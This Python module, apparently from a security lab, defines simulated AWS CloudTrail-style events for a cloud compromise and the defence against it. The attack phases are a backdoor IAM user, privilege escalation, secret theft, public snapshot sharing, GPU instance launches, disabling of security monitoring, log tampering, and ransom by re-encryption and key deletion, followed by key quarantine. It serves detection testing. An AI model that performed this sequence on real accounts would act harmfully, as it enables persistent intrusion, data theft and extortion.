"""The calls of the attack, and those of the defence against it."""

from ops.lab.history.acts_changing import ingress, on_bucket, write
from ops.lab.history.acts_reading import ASSUME_ROLE, S3_EXTRA, ec2
from ops.lab.history.acts_working import DELETE_OBJECT, GET_OBJECT, LIST_OBJECTS
from ops.lab.history.record import Act

FOREIGN = "666666666666"
_BY_POLICY = (
    "User: <principal> is not authorized to perform this action because no identity-based "
    "policy allows it"
)
_BY_GUARDRAIL = (
    "User: <principal> is not authorized to perform this action with an explicit deny in a "
    "service control policy"
)
_SUPPORT = "support-svc"
_ANY = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'
_TRUST = (
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":'
    f'"arn:<partition>:iam::{FOREIGN}:root"}},"Action":"sts:AssumeRole"}}]}}'
)
_OPEN = {"Version": "2012-10-17", "Statement": [{
    "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:<partition>:s3:::<bucket>/*"}]}  # fmt: skip
_SIGN_IN = {"eventType": "AwsConsoleSignIn", "requestID": None}
_CONSOLE = {
    "LoginTo": "https://console.aws.amazon.com/console/home",
    "MobileVersion": "No",
    "MFAUsed": "No",
}


def _denied(act: Act) -> Act:
    return act.failing("AccessDenied", _BY_POLICY)


def _guarded(act: Act) -> Act:
    return act.failing("AccessDenied", _BY_GUARDRAIL)


GET, LIST, DELETE = GET_OBJECT, LIST_OBJECTS, DELETE_OBJECT
ASSUME_NEXT = Act(
    "sts", "AssumeRole", ASSUME_ROLE.params, ASSUME_ROLE.answer, resources=ASSUME_ROLE.resources
)
LOOK_AROUND = (
    Act("s3", "ListBuckets", {"Host": "s3.<region>.amazonaws.com"}, extra=S3_EXTRA),
    Act("iam", "ListUsers", {}),
    Act("iam", "ListRoles", {}),
    Act("iam", "ListAccessKeys", {}),
    Act("iam", "ListAttachedUserPolicies", {"userName": "build-agent"}),
    _denied(Act("iam", "GetAccountAuthorizationDetails", None)),
    _denied(Act("organizations", "DescribeOrganization", None)),
)
DENIED = tuple(_denied(one) for one in (
    Act("secretsmanager", "ListSecrets", None),
    Act("ssm", "DescribeParameters", None),
    Act("rds", "DescribeDBInstances", None),
    Act("lambda", "ListFunctions20150331", None),
    Act("dynamodb", "ListTables", None),
    Act("ecs", "ListClusters", None),
    Act("ses", "GetAccount", None),
    ec2("DescribeSnapshots", None),
))  # fmt: skip
PERSISTENCE = (
    write("iam", "CreateUser", {"userName": _SUPPORT}, {"user": {"userName": _SUPPORT, "userId": "<newid>",
        "arn": f"arn:<partition>:iam::<account>:user/{_SUPPORT}", "createDate": "<made>", "path": "/"}}),
    write("iam", "CreateAccessKey", {"userName": _SUPPORT}, {"accessKey": {"userName": _SUPPORT,
        "accessKeyId": "<newkey>", "status": "Active", "createDate": "<made>"}}),
    write("iam", "CreateLoginProfile", {"userName": _SUPPORT, "passwordResetRequired": False},
        {"loginProfile": {"userName": _SUPPORT, "createDate": "<made>", "passwordResetRequired": False}}),
    write("iam", "UpdateAssumeRolePolicy", {"roleName": "task-checkout", "policyDocument": _TRUST}),
    write("iam", "DeactivateMFADevice", {"userName": "build-agent",
        "serialNumber": "arn:<partition>:iam::<account>:mfa/build-agent"}),
)  # fmt: skip
ESCALATION = (
    write("iam", "AttachUserPolicy", {"userName": _SUPPORT,
        "policyArn": "arn:<partition>:iam::aws:policy/AdministratorAccess"}),
    write("iam", "CreatePolicyVersion", {"policyArn": "arn:<partition>:iam::<account>:policy/build",
        "policyDocument": _ANY, "setAsDefault": True}, {"policyVersion": {"versionId": "v7",
        "isDefaultVersion": True}}),
    write("iam", "PutUserPolicy", {"userName": "build-agent", "policyName": "tmp", "policyDocument": _ANY}),
)  # fmt: skip
SIGN_IN_UNKNOWN = Act(
    "signin", "ConsoleLogin", None, {"ConsoleLogin": "Failure"}, read=False, extra=_CONSOLE,
    more={**_SIGN_IN, "errorMessage": "No username found in supplied account"},
)  # fmt: skip
SECRETS = (
    Act("secretsmanager", "ListSecrets", {"maxResults": 100}),
    *(Act("secretsmanager", "GetSecretValue", {
        "secretId": f"arn:<partition>:secretsmanager:<region>:<account>:secret:{name}-a1B2c3"})
      for name in ("checkout/database", "checkout/psp-token", "web/session-key", "reports/warehouse",
                   "backup/vault", "mail/smtp", "partners/sftp", "search/admin", "legacy/ldap")),
    Act("secretsmanager", "BatchGetSecretValue", {"filters": [{"key": "all", "values": [""]}]}),
    Act("ssm", "GetParametersByPath", {"path": "/", "recursive": True, "withDecryption": True}),
    Act("ec2", "GetPasswordData", {"instanceId": "i-0a7c41e9d03b58f62"}),
)  # fmt: skip
SHARING = (
    write("ec2", "ModifySnapshotAttribute", {"snapshotId": "<snapshot>", "attributeType": "CREATE_VOLUME_PERMISSION",
        "createVolumePermission": {"add": {"items": [{"userId": FOREIGN}]}}}, {"requestId": "<request>", "_return": True}),
    write("rds", "ModifyDBSnapshotAttribute", {"dBSnapshotIdentifier": "orders-final", "attributeName": "restore",
        "valuesToAdd": ["all"]}, {"dBSnapshotIdentifier": "orders-final"}),
    write("ec2", "ModifyImageAttribute", {"imageId": "ami-0d5c2f4e9a7b61c38", "attributeType": "launchPermission",
        "launchPermission": {"add": {"items": [{"group": "all"}]}}}, {"requestId": "<request>", "_return": True}),
    on_bucket("DeleteBucketPublicAccessBlock", publicAccessBlock=""),
    on_bucket("PutBucketPolicy", policy="", bucketPolicy=_OPEN),
    write("lambda", "AddPermission20150331v2", {"functionName": "order-events", "principal": "*",
        "action": "lambda:InvokeFunction", "statementId": "open"}),
)  # fmt: skip
FOOTHOLD = (
    ingress(22, 22, "0.0.0.0/0"),
    write("ec2", "ImportKeyPair", {"keyName": "k"}, {"keyName": "k", "keyPairId": "key-<id17>"}),
    *(write("ec2", "RunInstances", {"instanceType": "p4d.24xlarge", "keyName": "k", "instancesSet": {
        "items": [{"imageId": "ami-0ffffffffffffffff", "minCount": 1, "maxCount": 4}]}},
        {"reservationId": "r-<id17>", "instancesSet": {"items": [{"instanceId": "i-<id17>",
         "instanceType": "p4d.24xlarge", "currentState": {"code": 0, "name": "pending"}}]}}) for _ in range(2)),
    write("ec2", "RunInstances", {"instanceType": "p5.48xlarge"}).failing(
        "Client.VcpuLimitExceeded", "You have requested more vCPU capacity than your current vCPU limit allows"),
)  # fmt: skip
EVASION = (
    write("guardduty", "DeleteDetector", {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}),
    write("config", "StopConfigurationRecorder", {"configurationRecorderName": "default"}),
    write("securityhub", "DisableSecurityHub", {}),
    write("ec2", "DeleteFlowLogs", {"DeleteFlowLogsRequest": {"FlowLogId": "fl-<id17>"}}),
    write("monitoring", "DeleteAlarms", {"alarmNames": ["root-use", "unauthorized-calls"]}),
    write("events", "DisableRule", {"name": "guardduty-findings"}),
    write("access-analyzer", "DeleteAnalyzer", {"analyzerName": "organization"}),
)  # fmt: skip
TAMPERING = (
    _guarded(write("cloudtrail", "StopLogging", {"name": "<trailarn>"})),
    _guarded(write("cloudtrail", "DeleteTrail", {"name": "<trailarn>"})),
    _guarded(write("cloudtrail", "UpdateTrail", {"name": "<trailarn>", "isMultiRegionTrail": False,
        "enableLogFileValidation": False})),
    _guarded(write("cloudtrail", "PutEventSelectors", {"trailName": "<trailarn>", "eventSelectors": [
        {"readWriteType": "ReadOnly", "includeManagementEvents": False}]})),
    _denied(on_bucket("PutBucketLifecycle", lifecycle="", LifecycleConfiguration={"Rule": {
        "Expiration": {"Days": 1}, "Status": "Enabled", "Prefix": ""}})),
    _denied(on_bucket("DeleteBucketPolicy", policy="")),
    _denied(on_bucket("PutBucketVersioning", versioning="", VersioningConfiguration={"Status": "Suspended"})),
    _denied(write("kms", "DisableKey", {"keyId": "<archivekey>"})),
    _denied(write("kms", "ScheduleKeyDeletion", {"keyId": "<archivekey>", "pendingWindowInDays": 7})),
)  # fmt: skip
LEAVING = (_guarded(write("organizations", "LeaveOrganization", None)),)
RANSOM = (
    on_bucket("PutBucketVersioning", versioning="", VersioningConfiguration={"Status": "Suspended"}),
    on_bucket("PutBucketLifecycle", lifecycle="", LifecycleConfiguration={"Rule": {
        "ID": "x", "Expiration": {"Days": 1}, "Status": "Enabled", "Prefix": ""}}),
    Act("s3", "CopyObject", {"bucketName": "<bucket>", "key": "exports/customers-000.parquet",
        "x-amz-copy-source": "<bucket>/exports/customers-000.parquet",
        "x-amz-server-side-encryption-customer-algorithm": "AES256"}, read=False, data=True,
        extra={**S3_EXTRA, "SSEApplied": "SSE_C"}),
    write("kms", "ScheduleKeyDeletion", {"keyId": "<doomed>", "pendingWindowInDays": 7},
        {"keyId": "<doomed>", "keyState": "PendingDeletion"}),
    Act("s3", "PutObject", {"bucketName": "<bucket>", "key": "READ_ME_TO_RESTORE.txt"}, read=False, data=True,
        extra=S3_EXTRA),
)  # fmt: skip
PASSWORD_RECOVERY = Act(
    "signin", "PasswordRecoveryRequested", None, {"PasswordRecoveryRequested": "Success"}, read=False,
    more=_SIGN_IN,
)  # fmt: skip
ROOT_FAILED = Act(
    "signin", "ConsoleLogin", None, {"ConsoleLogin": "Failure"}, read=False, extra=_CONSOLE,
    more={**_SIGN_IN, "errorMessage": "Failed authentication"},
)  # fmt: skip
ROOT_KEYS = Act("iam", "ListAccessKeys", {})
QUARANTINE = write("iam", "AttachUserPolicy", {"userName": "build-agent",
    "policyArn": "arn:<partition>:iam::aws:policy/AWSCompromisedKeyQuarantineV3"})  # fmt: skip
RESPONSE = (
    write("iam", "UpdateAccessKey", {"userName": "build-agent", "accessKeyId": "<leaked>", "status": "Inactive"}),
    write("iam", "UpdateAccessKey", {"userName": _SUPPORT, "accessKeyId": "<newkey>", "status": "Inactive"}),
    write("iam", "DeleteLoginProfile", {"userName": _SUPPORT}),
    write("iam", "DetachUserPolicy", {"userName": _SUPPORT,
        "policyArn": "arn:<partition>:iam::aws:policy/AdministratorAccess"}),
)  # fmt: skip
